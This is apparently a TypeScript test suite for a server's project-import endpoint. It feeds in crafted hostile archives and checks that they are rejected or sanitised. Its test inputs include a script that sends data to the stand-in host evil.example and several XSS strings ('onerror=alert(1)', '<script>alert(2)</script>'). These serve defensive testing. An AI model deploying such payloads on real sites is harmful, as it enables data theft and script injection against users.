import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { startTestServer, type TestServer } from '../test-server.ts';
import { jpegOf } from '../test-images.ts';
import { instantPipeline } from '../jobs/instant-pipeline.ts';
import { readTar, TAR_END, tarHeader, tarPadding } from './tar.ts';

// Hostile archives, built with the repo's own tar writer from a real export: the manifest's values must pass the
// same schemas and limits as the API, sizes come from the bytes, and report pages never come from the archive.

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- manifests are edited freely, bodies compared whole
type Any = any;
interface Archive { manifest: Any; files: Map<string, Buffer> }

let a: TestServer;
let b: TestServer;
let source: Archive;
/** The exported model's report page on the server that trained it. */
let reportPage: string;
const CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";

const json = async (response: Response): Promise<Any> => response.json();
const post = (t: TestServer, path: string, body: unknown) => t.api(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const importInto = (t: TestServer, archive: Archive) => t.api('/projects/import', { method: 'POST', headers: { 'content-type': 'application/x-tar' }, body: pack(archive) });
const sha256Of = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const filesOf = (t: TestServer) => !existsSync(join(t.dataDir, 'blobs')) ? [] : readdirSync(join(t.dataDir, 'blobs'), { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => e.name).sort();

function pack({ manifest, files }: Archive): Uint8Array {
  const parts: Buffer[] = [];
  const add = (name: string, bytes: Buffer) => parts.push(tarHeader(name, bytes.length), bytes, tarPadding(bytes.length));
  add('manifest.json', Buffer.from(JSON.stringify(manifest)));
  for (const [sha256, bytes] of files) add(`blobs/${sha256}`, bytes);
  parts.push(TAR_END);
  return Buffer.concat(parts);
}

async function unpack(tar: Uint8Array): Promise<Archive> {
  let manifest: Any;
  const files = new Map<string, Buffer>();
  for await (const entry of readTar((async function* () { yield Buffer.from(tar); })(), Infinity)) {
    const parts: Buffer[] = [];
    for await (const part of entry.read()) parts.push(part);
    if (entry.name === 'manifest.json') manifest = JSON.parse(Buffer.concat(parts).toString('utf8'));
    else files.set(entry.name.slice('blobs/'.length), Buffer.concat(parts));
  }
  return { manifest, files };
}

/** The source archive with every id replaced by a new one (a project this server has not seen). */
function fresh(archive: Archive = source): Archive {
  const ids = new Map<string, string>();
  const text = JSON.stringify(archive.manifest).replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, (id) => ids.get(id) ?? ids.set(id, randomUUID()).get(id)!);
  return { manifest: JSON.parse(text), files: new Map(archive.files) };
}

/** Swaps the file behind a model artifact for other bytes, listing them (with their true size) like an export would. */
function replaceArtifact({ manifest, files }: Archive, variant: string, bytes: Buffer): void {
  const artifact = manifest.models[0].artifacts.find((x: Any) => x.variant === variant);
  files.delete(artifact.sha256);
  manifest.blobs = manifest.blobs.filter((x: Any) => x.sha256 !== artifact.sha256);
  Object.assign(artifact, { sha256: sha256Of(bytes), sizeBytes: bytes.length });
  manifest.blobs.push({ sha256: artifact.sha256, sizeBytes: bytes.length });
  files.set(artifact.sha256, bytes);
}

/** What a client sees of the server: every project with its samples and models, and every stored file. */
async function stateOf(t: TestServer) {
  const { projects } = await json(await t.api('/projects'));
  const rows = [];
  for (const project of projects) rows.push([await json(await t.api(`/projects/${project.id}/samples`)), await json(await t.api(`/projects/${project.id}/models`))]);
  return { projects, rows, files: filesOf(t) };
}

before(async () => {
  [a, b] = await Promise.all([startTestServer({ pipeline: instantPipeline() }), startTestServer({ pipeline: instantPipeline() })]);
  const { id } = await json(await post(a, '/projects', { name: 'hostile', labels: ['cat', 'dog'] }));
  for (const [label, seed] of [['cat', 1], ['cat', 2], ['dog', 3], ['dog', 4]] as const) {
    assert.equal((await a.api(`/projects/${id}/samples?label=${label}`, { method: 'POST', headers: { 'content-type': 'image/jpeg' }, body: await jpegOf([seed * 50, 90, 0], seed) })).status, 201);
  }
  const job = await json(await post(a, `/projects/${id}/train`, { budgetSeconds: 10, seed: 1 }));
  let polled = job;
  while (polled.status !== 'succeeded') {
    await new Promise((resolve) => setTimeout(resolve, 20));
    polled = await json(await a.api(`/jobs/${job.id}`));
  }
  source = await unpack(new Uint8Array(await (await a.api(`/projects/${id}/export`)).arrayBuffer()));
  reportPage = await (await a.api(`/models/${polled.modelId}/report.html`)).text();
  // What the target server already holds: a project made through the API and one imported.
  const made = await json(await post(b, '/projects', { name: 'already here', labels: ['x', 'y'] }));
  assert.equal((await b.api(`/projects/${made.id}/samples?label=x`, { method: 'POST', headers: { 'content-type': 'image/jpeg' }, body: await jpegOf([1, 2, 3], 9) })).status, 201);
  assert.equal((await importInto(b, source)).status, 201);
});
after(async () => { await a.stop(); await b.stop(); });

test('a report page with script in the archive is replaced by the page the server renders from report.json, served with a CSP', async () => {
  const archive = fresh();
  const evil = Buffer.from('<!doctype html><script>fetch("https://evil.example/?k=" + indexedDB)</script><img src=x onerror="alert(1)">');
  replaceArtifact(archive, 'report-html', evil);
  const response = await importInto(b, archive);
  assert.equal(response.status, 201, JSON.stringify(await response.clone().json()));
  const modelId = archive.manifest.models[0].id;
  const page = await b.api(`/models/${modelId}/report.html`);
  const html = await page.text();
  assert.equal(page.status, 200);
  assert.equal(page.headers.get('content-security-policy'), CSP);
  assert.doesNotMatch(html, /<script|onerror/i);
  assert.equal(html, reportPage, 'the page rendered from the same report.json');
  assert.equal(Number(page.headers.get('content-length')), Buffer.byteLength(html));
  assert.ok(!filesOf(b).includes(sha256Of(evil)), "the archive's page is not kept");
  const listed = (await json(await b.api(`/models/${modelId}`))).artifacts.find((x: Any) => x.variant === 'report-html');
  assert.deepEqual(listed, { variant: 'report-html', sha256: sha256Of(Buffer.from(reportPage)), sizeBytes: Buffer.byteLength(reportPage) });
});

test('markup in a report: a number field is refused by the schema; in a free-text field it is escaped on the rendered page', async () => {
  const archive = fresh();
  const original = JSON.parse(archive.files.get(archive.manifest.models[0].artifacts.find((x: Any) => x.variant === 'report').sha256)!.toString('utf8'));
  const withReport = (edit: (report: Any) => void) => {
    const report = structuredClone(original);
    edit(report);
    replaceArtifact(archive, 'report', Buffer.from(JSON.stringify(report)));
  };
  withReport((report) => { report.search = { objective: 'int8', limits: { maxInt8Kb: '<script>alert(2)</script>' } }; });
  const refused = await importInto(b, archive);
  assert.equal(refused.status, 400);
  assert.match((await json(refused)).error.message, /search\.limits\.maxInt8Kb must be number/);
  withReport((report) => { report.trials[0].error = '<img src=x onerror=alert(1)>'; report.trials[0].status = 'failed <script>alert(2)</script>'; });
  const response = await importInto(b, archive);
  assert.equal(response.status, 201, JSON.stringify(await response.clone().json()));
  const html = await (await b.api(`/models/${archive.manifest.models[0].id}/report.html`)).text();
  assert.doesNotMatch(html, /<script|<img/i);
  assert.match(html, /&#60;script&#62;alert\(2\)/);
});

test('an archive from before modalities (no modality, task or settings; old job progress and model input) still imports', async () => {
  const archive = fresh();
  const { project, jobs, models } = archive.manifest;
  delete project.modality; delete project.task; delete project.settings;
  delete jobs[0].progress.trialsFinished; delete jobs[0].progress.leaderboard;
  const { width, height, mean, std } = models[0].input.preprocessing.image;
  models[0].input = { width, height, channels: 3, dtype: 'float32', mean, std };
  const response = await importInto(b, archive);
  assert.equal(response.status, 201, JSON.stringify(await response.clone().json()));
  assert.deepEqual([(await json(response)).project.modality, (await json(await b.api(`/models/${models[0].id}`))).input.kind], ['image', 'image']);
});

test('a failed job keeps its failure code through export and import (the same codes the API serves)', async () => {
  const archive = fresh();
  const failedJob = { ...structuredClone(archive.manifest.jobs[0]), id: randomUUID(), status: 'failed', modelId: null, error: 'Training failed: No trial finished within the budget of 10 s.', errorCode: 'BUDGET_TOO_SMALL' };
  archive.manifest.jobs.push(failedJob);
  const response = await importInto(b, archive);
  assert.equal(response.status, 201, JSON.stringify(await response.clone().json()));
  const job = await json(await b.api(`/jobs/${failedJob.id}`));
  assert.deepEqual([job.status, job.failure], ['failed', { code: 'BUDGET_TOO_SMALL', message: failedJob.error }]);
  const exported = await unpack(new Uint8Array(await (await b.api(`/projects/${archive.manifest.project.id}/export`)).arrayBuffer()));
  assert.equal(exported.manifest.jobs.find((j: Any) => j.id === failedJob.id).errorCode, 'BUDGET_TOO_SMALL');
});

test('refused archives: 400 (409 for rows already here) naming the field; the server keeps serving what it had, unchanged', async () => {
  const stored = await stateOf(b);
  const artifact = (m: Any, variant: string) => m.models[0].artifacts.find((x: Any) => x.variant === variant);
  const blob = (m: Any, variant: string) => m.blobs.find((x: Any) => x.sha256 === artifact(m, variant).sha256);
  const report = (m: Any, files: Map<string, Buffer>) => JSON.parse(files.get(artifact(m, 'report').sha256)!.toString('utf8'));
  const withReport = (archive: Archive, edit: (report: Any) => void) => {
    const edited = report(archive.manifest, archive.files);
    edit(edited);
    replaceArtifact(archive, 'report', Buffer.from(JSON.stringify(edited)));
  };
  const cases: [string, (archive: Archive) => void, number, string, RegExp][] = [
    ['unknown modality', ({ manifest }) => { manifest.project.modality = 'smell'; }, 400, 'VALIDATION', /project\.modality must be equal to one of the allowed values \(image, audio, motion, text, tabular\) \(got "smell"\)/],
    ['unknown task', ({ manifest }) => { manifest.project.task = 'rank'; }, 400, 'VALIDATION', /project\.task must be equal to one of the allowed values/],
    ['object label', ({ manifest }) => { manifest.project.labels.push({ toString: 'x' }); }, 400, 'VALIDATION', /project\.labels\[2\] must be string \(got \{"toString":"x"\}\)/],
    ['object label in a dataset', ({ manifest }) => { manifest.datasets[0].labels[0] = { a: 1 }; }, 400, 'VALIDATION', /datasets\[0\]\.labels\[0\] must be string/],
    ['object label in a model', ({ manifest }) => { manifest.models[0].labels[1] = { label: 'dog' }; }, 400, 'VALIDATION', /models\[0\]\.labels\[1\] must be string/],
    ['object sample label', ({ manifest }) => { manifest.samples[0].label = { label: 'cat' }; }, 400, 'VALIDATION', /samples\[0\]\.label must be string/],
    ['5000-character name', ({ manifest }) => { manifest.project.name = 'n'.repeat(5000); }, 400, 'VALIDATION', /project\.name must NOT have more than 100 characters \(got "n{59}… \(5002 characters\)\)/],
    ['empty name', ({ manifest }) => { manifest.project.name = ''; }, 400, 'VALIDATION', /project\.name must NOT have fewer than 1 characters/],
    ['65-character label', ({ manifest }) => { manifest.project.labels.push('l'.repeat(65)); }, 400, 'VALIDATION', /project\.labels\[2\] must NOT have more than 64 characters/],
    ['51 labels', ({ manifest }) => { manifest.project.labels.push(...Array.from({ length: 49 }, (_, i) => `l${i}`)); }, 400, 'VALIDATION', /project\.labels must NOT have more than 50 items/],
    ['repeated label', ({ manifest }) => { manifest.project.labels.push('cat'); }, 400, 'VALIDATION', /project: Labels must be unique/],
    ['untrimmed label', ({ manifest }) => { manifest.project.labels.push(' bird'); }, 400, 'VALIDATION', /project\.labels\[2\] has surrounding spaces/],
    ['settings of another modality', ({ manifest }) => { manifest.project.settings = { audio: { clipSeconds: 1 } }; }, 400, 'VALIDATION', /settings\.audio applies to audio projects/],
    ['sample of another modality', ({ manifest }) => { manifest.samples[0].mediaType = 'text/plain'; }, 400, 'VALIDATION', /samples\[0\]\.mediaType "text\/plain" is not one of a image project's/],
    ['sample as HTML', ({ manifest }) => { manifest.samples[0].mediaType = 'text/html'; }, 400, 'VALIDATION', /samples\[0\]\.mediaType must be equal to one of the allowed values/],
    ['model of another modality', ({ manifest }) => { manifest.models[0].input.kind = 'audio'; }, 400, 'VALIDATION', /models\[0\]\.input\.kind is "audio" but the project's modality is "image"/],
    ['unknown job status', ({ manifest }) => { manifest.jobs[0].status = 'exploded'; }, 400, 'VALIDATION', /jobs\[0\]\.status must be equal to one of the allowed values/],
    ['unknown failure code', ({ manifest }) => { manifest.jobs[0].errorCode = 'GREMLINS'; }, 400, 'VALIDATION', /jobs\[0\]\.errorCode must be equal to one of the allowed values/],
    ['creation time not a time', ({ manifest }) => { manifest.samples[0].createdAt = 'yesterday'; }, 400, 'VALIDATION', /samples\[0\]\.createdAt must match format "date-time"/],
    ['listed size too large', ({ manifest }) => { manifest.blobs[0].sizeBytes += 1000; }, 400, 'VALIDATION', /blobs\[0\]\.sizeBytes is \d+ but blobs\/[0-9a-f]{64} holds \d+ bytes/],
    ['listed size too small', ({ manifest }) => { manifest.blobs[0].sizeBytes -= 1; }, 400, 'VALIDATION', /blobs\[0\]\.sizeBytes is \d+ but/],
    ['model file size too large', ({ manifest }) => { artifact(manifest, 'float32').sizeBytes += 4096; }, 400, 'VALIDATION', /models\[0\]\.artifacts\[\d\]\.sizeBytes is \d+ but blobs\/[0-9a-f]{64} holds \d+ bytes/],
    ['model file size too small', ({ manifest }) => { artifact(manifest, 'int8').sizeBytes -= 100; blob(manifest, 'int8').sizeBytes -= 100; }, 400, 'VALIDATION', /artifacts\[\d\]\.sizeBytes is \d+ but/],
    ['negative size', ({ manifest }) => { artifact(manifest, 'int8').sizeBytes = -1; }, 400, 'VALIDATION', /sizeBytes must be >= 0/],
    ['repeated sample id', ({ manifest }) => { manifest.samples[1].id = manifest.samples[0].id; }, 400, 'VALIDATION', /samples\[1\]\.id repeats samples\[0\]\.id/],
    ['a job with a dataset\'s id', ({ manifest }) => { manifest.jobs[0].id = manifest.datasets[0].id; }, 400, 'VALIDATION', /jobs\[0\]\.id repeats datasets\[0\]\.id/],
    ['repeated model id', ({ manifest }) => { manifest.models.push({ ...structuredClone(manifest.models[0]), version: 2 }); }, 400, 'VALIDATION', /models\[1\]\.id repeats models\[0\]\.id/],
    ['repeated model version', ({ manifest }) => { manifest.models.push({ ...structuredClone(manifest.models[0]), id: randomUUID() }); }, 400, 'VALIDATION', /models\[1\]\.version repeats models\[0\]\.version/],
    ['repeated model file variant', ({ manifest }) => { manifest.models[0].artifacts.push({ ...artifact(manifest, 'float32') }); }, 400, 'VALIDATION', /models\[0\]\.artifacts\[4\]\.variant repeats models\[0\]\.artifacts\[\d\]\.variant/],
    ['one file as two samples', ({ manifest }) => { manifest.samples[1].sha256 = manifest.samples[0].sha256; }, 400, 'VALIDATION', /samples\[1\]\.sha256 repeats samples\[0\]\.sha256/],
    ['repeated idempotency key', ({ manifest }) => { manifest.samples[0].idempotencyKey = 'k'; manifest.samples[1].idempotencyKey = 'k'; }, 400, 'VALIDATION', /samples\[1\]\.idempotencyKey repeats/],
    ['report.json of the wrong shape', (archive) => withReport(archive, (r) => { r.split.train = '<script>alert(1)</script>'; }), 400, 'VALIDATION', /models\[0\] \(v1\)'s report\.json: split\.train must be integer/],
    ['report.json not JSON', (archive) => replaceArtifact(archive, 'report', Buffer.from('<script>')), 400, 'VALIDATION', /models\[0\] \(v1\)'s report\.json is not JSON/],
    ['a sample id already on this server', ({ manifest }) => {
      const [taken, id] = [source.manifest.samples[0].id, manifest.samples[0].id];
      manifest.samples[0].id = taken;
      for (const dataset of manifest.datasets) dataset.sampleIds = dataset.sampleIds.map((sampleId: string) => (sampleId === id ? taken : sampleId));
    }, 409, 'CONFLICT', /already exist on this server/],
    ['the project already on this server', ({ manifest }) => { manifest.project.id = source.manifest.project.id; }, 409, 'CONFLICT', /already exists on this server/],
  ];
  for (const [name, edit, status, code, message] of cases) {
    const archive = fresh();
    edit(archive);
    const response = await importInto(b, archive);
    const answer = await json(response);
    assert.deepEqual([response.status, answer.error?.code], [status, `OFFGRID_ERR_${code}`], `${name}: ${JSON.stringify(answer)}`);
    assert.match(answer.error.message, message, name);
    assert.match(answer.error.message, /[Nn]othing was imported/, name);
    assert.deepEqual(await stateOf(b), stored, `${name}: nothing changed`);
  }
  // The stored projects still serve their files.
  const [, models] = stored.rows.find(([, m]) => m.models.length > 0)!;
  const download = await b.api(`/models/${models.models[0].id}/download?variant=int8`);
  assert.equal(download.status, 200);
  assert.equal(sha256Of(new Uint8Array(await download.arrayBuffer())), download.headers.get('x-checksum-sha256'));
});
